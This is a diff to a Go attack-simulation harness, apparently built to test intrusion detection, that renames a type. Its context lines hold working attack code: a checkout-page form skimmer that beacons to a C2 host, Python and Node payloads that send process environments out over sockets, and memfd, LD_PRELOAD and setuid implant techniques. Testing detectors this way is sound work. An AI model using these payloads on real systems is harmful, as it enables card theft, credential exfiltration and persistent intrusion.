@@ -39,8 +39,8 @@ func Attacks() []Attack {
 	}
 }
 
-func planted(opts ...string) func(context.Context, *break_) error {
-	return func(ctx context.Context, b *break_) error {
+func planted(opts ...string) func(context.Context, *intrusion) error {
+	return func(ctx context.Context, b *intrusion) error {
 		if err := b.plant(ctx, opts...); err != nil {
 			return err
 		}
@@ -51,12 +51,12 @@ func planted(opts ...string) func(context.Context, *break_) error {
 	}
 }
 
-func held(ctx context.Context, b *break_) error {
+func held(ctx context.Context, b *intrusion) error {
 	b.truth.Memfd = "stage2"
 	return b.plant(ctx, "-delete", "-mode", "hold")
 }
 
-func listening(ctx context.Context, b *break_) error {
+func listening(ctx context.Context, b *intrusion) error {
 	host, _, err := net.SplitHostPort(b.c.Addr)
 	if err != nil {
 		return err
@@ -74,21 +74,21 @@ func listening(ctx context.Context, b *break_) error {
 	return b.plant(ctx, "-delete", "-listen", b.truth.Listen)
 }
 
-func staged(ctx context.Context, b *break_) error {
+func staged(ctx context.Context, b *intrusion) error {
 	b.truth.Dropped = append(b.truth.Dropped, "/dev/shm/.env", "/dev/shm/.stage")
 	return b.plant(ctx, "-delete", "-mode", "stage", "-stage", "/dev/shm")
 }
 
 const skimmer = "document.forms[0].addEventListener('submit',e=>navigator.sendBeacon('http://%s/s',new FormData(e.target)));\n"
 
-func skimmed(ctx context.Context, b *break_) error {
+func skimmed(ctx context.Context, b *intrusion) error {
 	script := fmt.Appendf(nil, skimmer, b.c2.Addr)
 	b.truth.SHA256 = digest(script)
 	b.truth.Replaced = append(b.truth.Replaced, "/app/static/checkout.js")
 	return b.upload(ctx, "/app/static/checkout.js", script, "644")
 }
 
-func setuid(ctx context.Context, b *break_) error {
+func setuid(ctx context.Context, b *intrusion) error {
 	bin, err := b.implant(ctx)
 	if err != nil {
 		return err
@@ -105,7 +105,7 @@ func pickle(code string) []byte {
 	return append(append(b, code...), "tR."...)
 }
 
-func (b *break_) python(ctx context.Context, code string) error {
+func (b *intrusion) python(ctx context.Context, code string) error {
 	host, port, err := net.SplitHostPort(b.c2.Addr)
 	if err != nil {
 		return err
@@ -122,7 +122,7 @@ s = socket.create_connection(("$HOST", $PORT))
 s.sendall(("HELLO pid=%d mode=MODE exe=%s\n" % (os.getpid(), os.readlink("/proc/self/exe").replace(" ", "_"))).encode())
 `
 
-func pythonInProcess(ctx context.Context, b *break_) error {
+func pythonInProcess(ctx context.Context, b *intrusion) error {
 	code := strings.ReplaceAll(pythonCall, "MODE", "inproc") + `
 s.sendall(("\n".join(k + "=" + v for k, v in os.environ.items())).encode())
 import threading
@@ -136,7 +136,7 @@ threading.Thread(target=lambda: s.recv(64), daemon=True, name="pool-worker").sta
 	return b.called(ctx)
 }
 
-func pythonShell(ctx context.Context, b *break_) error {
+func pythonShell(ctx context.Context, b *intrusion) error {
 	code := `
 import os
 if os.fork() == 0:
@@ -158,7 +158,7 @@ if os.fork() == 0:
 	return b.called(ctx)
 }
 
-func pythonMemfd(ctx context.Context, b *break_) error {
+func pythonMemfd(ctx context.Context, b *intrusion) error {
 	bin, err := b.implant(ctx)
 	if err != nil {
 		return err
@@ -180,7 +180,7 @@ os.close(fd)
 	return b.called(ctx)
 }
 
-func pythonPreload(ctx context.Context, b *break_) error {
+func pythonPreload(ctx context.Context, b *intrusion) error {
 	hook, err := b.lab.hook(ctx)
 	if err != nil {
 		return err
@@ -201,7 +201,7 @@ os.posix_spawn("/usr/bin/python3.11", ["/usr/bin/python3.11", "-c", CHILD], {**o
 	return b.called(ctx)
 }
 
-func pythonLibrary(ctx context.Context, b *break_) error {
+func pythonLibrary(ctx context.Context, b *intrusion) error {
 	hook, err := b.lab.hook(ctx)
 	if err != nil {
 		return err
@@ -224,7 +224,7 @@ builtins._keep = s
 	return b.called(ctx)
 }
 
-func pythonText(ctx context.Context, b *break_) error {
+func pythonText(ctx context.Context, b *intrusion) error {
 	// The last bytes of .text, where nothing that runs lies; the section's place is read from the ELF header.
 	code := `
 import os, struct
@@ -261,7 +261,7 @@ builtins._keep = s
 	return b.called(ctx)
 }
 
-func pythonReplace(ctx context.Context, b *break_) error {
+func pythonReplace(ctx context.Context, b *intrusion) error {
 	src, err := source()
 	if err != nil {
 		return err
@@ -290,7 +290,7 @@ func indent(s, by string) string {
 	return by + strings.ReplaceAll(strings.TrimSpace(s), "\n", "\n"+by)
 }
 
-func (b *break_) node(ctx context.Context, code string) error {
+func (b *intrusion) node(ctx context.Context, code string) error {
 	host, port, err := net.SplitHostPort(b.c2.Addr)
 	if err != nil {
 		return err
@@ -299,7 +299,7 @@ func (b *break_) node(ctx context.Context, code string) error {
 	return b.request(ctx, http.MethodPost, "/render", []byte(code), http.StatusOK)
 }
 
-func nodeInProcess(ctx context.Context, b *break_) error {
+func nodeInProcess(ctx context.Context, b *intrusion) error {
 	const code = `(() => {
   const s = require('net').connect($PORT, '$HOST', () => {
     s.write('HELLO pid=' + process.pid + ' mode=inproc exe=' + process.execPath + '\n' + JSON.stringify(process.env));
@@ -314,7 +314,7 @@ func nodeInProcess(ctx context.Context, b *break_) error {
 	return b.called(ctx)
 }
 
-func nodeDrop(ctx context.Context, b *break_) error {
+func nodeDrop(ctx context.Context, b *intrusion) error {
 	bin, err := b.implant(ctx)
 	if err != nil {
 		return err
